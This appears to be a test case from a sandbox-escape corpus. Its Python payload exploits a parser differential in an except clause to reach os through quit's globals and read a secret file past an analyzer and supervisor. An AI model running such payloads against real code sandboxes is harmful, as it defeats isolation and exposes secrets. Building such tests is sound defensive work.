# class: parser differentials
# technique: several classes in an except without parentheses
# layers: analyzer, supervisor
# code: user
# control: CPython before 3.14 refuses this syntax
# witness: secret
host = _items[0]["json"]
try:
    [][0]
except IndexError, (g := quit.__init__.__globals__):
    pass
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
